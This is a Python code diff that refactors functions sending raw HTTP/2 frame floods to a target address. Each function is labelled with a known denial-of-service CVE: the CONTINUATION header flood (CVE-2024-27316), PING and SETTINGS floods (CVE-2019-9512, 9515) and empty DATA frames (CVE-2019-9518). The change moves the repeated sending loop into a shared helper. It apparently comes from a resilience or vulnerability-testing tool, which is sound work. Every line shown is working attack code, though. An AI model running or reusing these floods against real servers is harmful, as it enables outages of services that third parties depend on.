@@ -65,33 +65,32 @@ def many_headers(address: str) -> None:
 
 def endless_headers(address: str) -> None:
     """Send headers that do not end, large ones and empty ones (CVE-2024-27316)."""
+    begun = frame(raw.HEADERS, 0, 1, call_headers())
     large = frame(raw.CONTINUATION, 0, 1, raw.literal(b"x", bytes(16_000)))
-    empty = frame(raw.CONTINUATION, 0, 1)
-    for flood, times in ((large, 2_000), (empty * 1000, 200)):
-        with RawConnection(address) as connection:
-            connection.send(frame(raw.HEADERS, 0, 1, call_headers()))
-            for _ in range(times):
-                if not connection.send(flood):
-                    break
+    flood(address, begun, large, times=2_000)
+    flood(address, begun, frame(raw.CONTINUATION, 0, 1) * 1000, times=200)
 
 
 def questions(address: str) -> None:
     """Ask for signs of life and change settings, and read no answer (CVE-2019-9512, 9515)."""
-    for flood in (frame(raw.PING, 0, 0, bytes(8)) * 1000, settings(s4=65_535) * 1000):
-        with RawConnection(address) as connection:
-            connection.socket.settimeout(0.5)
-            for _ in range(20):
-                if not connection.send(flood):
-                    break
+    for part in (frame(raw.PING, 0, 0, bytes(8)), settings(s4=65_535)):
+        flood(address, b"", part * 1000, times=20, patience_s=0.5)
 
 
 def empty_data(address: str) -> None:
     """Send frames of data that hold none (CVE-2019-9518)."""
+    begun = frame(raw.HEADERS, raw.END_HEADERS, 1, call_headers())
+    flood(address, begun, frame(raw.DATA, 0, 1) * 1000, times=100)
+
+
+def flood(address: str, begun: bytes, part: bytes, *, times: int, patience_s: float = 30) -> None:
+    """Send a part again and again, as long as it is taken."""
     with RawConnection(address) as connection:
-        connection.send(frame(raw.HEADERS, raw.END_HEADERS, 1, call_headers()))
-        for _ in range(100):
-            if not connection.send(frame(raw.DATA, 0, 1) * 1000):
-                return
+        connection.socket.settimeout(patience_s)
+        connection.send(begun)
+        for _ in range(times):
+            if not connection.send(part):
+                break
 
 
 def dropped_connections(address: str) -> None:
